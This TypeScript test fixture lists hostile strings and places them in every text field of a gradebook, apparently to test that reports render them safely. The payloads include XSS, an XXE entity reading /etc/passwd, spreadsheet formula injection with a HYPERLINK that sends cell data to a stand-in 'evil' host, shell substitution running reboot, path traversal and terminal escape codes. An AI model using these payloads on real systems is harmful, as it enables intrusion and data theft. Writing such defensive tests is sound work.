import type { Gradebook } from '../../grades.ts';
import { diagnosis } from '../report.fixture.ts';
import { gradebook, student } from './gradebook.fixture.ts';

/** For tests: what students may be called, or write, to be more than text in a report. */
export const hostileTexts: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'image with a handler': '"><img src=x onerror=alert(1)>',
  'end of a style sheet': '</style><style>*{display:none}</style>',
  'end of a title': '</title></head><body onload=alert(1)>',
  'attribute without quotes': "' onmouseover=alert(1) x='",
  'link that runs': '<a href="javascript:alert(1)">here</a>',
  comment: '<!-- --><!--><svg onload=alert(1)>-->',
  'end of a CDATA section': ']]>',
  'CDATA section': '<![CDATA[<script>]]>',
  'entity of its own': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'character references': '&#x3c;script&#x3e;&lt;&amp;amp;&nbsp;',
  'processing instruction': '<?xml version="1.1"?>',
  'template of a language': '${alert(1)} {{7*7}} <%= 7*7 %> #{7*7}',
  'formula with =': "=cmd|' /C calc'!A0",
  'formula with @': '@SUM(1+1)*cmd|x',
  'formula with +': '+1+cmd()',
  'formula with -': '-2+3+cmd()',
  'formula behind a tab': '\t=1+1',
  'formula behind a line end': '\r\n=1+1',
  'formula behind a space': '  =HYPERLINK("http://evil","x")',
  'formula behind a semicolon': 'a;=1+1;"=2',
  'formula in full width': '＝1+1',
  'formula in quotes': '"=1+1","@x"',
  'link of Excel': '=HYPERLINK("http://evil/?"&A1)',
  'line ends in a cell': 'a\r\nb\nc\rd\u2028e\u2029f\u0085g\vh\fi',
  'quotes and commas': '",",""\',\'',
  'mark of byte order': '\ufeffid',
  'points of Canvas': '    Points Possible',
  'muted of Canvas': 'Muted',
  'override of direction': '\u202egpj.exe\u202c',
  'isolates of direction': '\u2066\u2067a\u2069\u200f\u061c',
  'half of a character': 'a\ud800b\udc00c',
  'halves in the wrong order': '\udc00\ud800',
  NUL: 'a\0b',
  'colour and a cleared screen': '\u001b[31mred\u001b[2J\u001b[H',
  'title of the terminal': '\u001b]0;evil\u0007',
  'link of the terminal': '\u001b]8;;http://evil\u001b\\here\u001b]8;;\u001b\\',
  'control in eight bits': '\u009b31m\u009d0;evil\u009c',
  'line painted over': '100.00\rpassed\b\b\b\u007f',
  'no characters': '\ufffe\uffff\u{1fffe}\u{10ffff}',
  'very long': 'x'.repeat(100_000),
  'very long, of marks': `a${'\u0301'.repeat(20_000)}`,
  'very long, of spaces': `${' '.repeat(20_000)}a`,
  'very long, of escapes': '\u001b['.repeat(10_000),
  'very long, in one cluster': '👩\u200d'.repeat(5_000),
  empty: '',
  'space alone': ' \t\n ',
  'path upwards': '../../etc/passwd',
  'path from the root': '/etc/passwd',
  'path of Windows': 'C:\\Windows\\..\\x',
  device: 'CON',
  'option of a command': '--out=/etc/passwd',
  'substitution of a shell': '$(reboot)`reboot`;reboot|reboot&',
  'name of a prototype': '__proto__',
  constructor: 'constructor',
  zero: '0',
  'word of a value': 'undefined null NaN true',
  'upper case': 'ID',
  'lower case': 'id',
  composed: '\u00e9',
  decomposed: 'e\u0301',
};

/** For tests: a class in which all that can be text is this text, for every status that there is. */
export function hostileBook(text: string): Gradebook {
  const one = student(text, { name: text, email: text, source: { kind: 'evidence', name: text } }, [
    'exam 24',
    'exam 31',
  ]);
  const labs = one.labs.slice(-1).map((lab) => ({
    ...lab,
    id: text,
    title: text,
    steps: lab.steps.map((step) => ({
      ...step,
      id: text,
      title: text,
      attempt: { number: 1, of: 1, recordedAt: text },
      checks: step.checks.map((check) => ({
        ...check,
        ...{ expected: text, actual: text, why: text, hint: text, next: text },
        diagnoses: [{ ...diagnosis, id: text, says: text, matters: text, next: text }],
      })),
    })),
  }));
  const told = { ...one, labs, cause: text, doubts: [{ id: text, line: 1, says: text }] };
  const statuses = ['graded', 'held', 'broken', 'refused', 'missing'] as const;
  const book = gradebook(statuses.map((status) => ({ ...told, id: `${text}${status}`, status })));
  const ids = book.students.map(({ id }) => id);
  return {
    ...book,
    startedAt: text,
    labs: book.labs.slice(-1).map((lab) => ({ ...lab, id: text, title: text })),
    copies: [
      { students: ids, rows: [{ kind: 'task', value: text, lines: Object.fromEntries(ids.map((id) => [id, 1])) }] },
    ],
  };
}
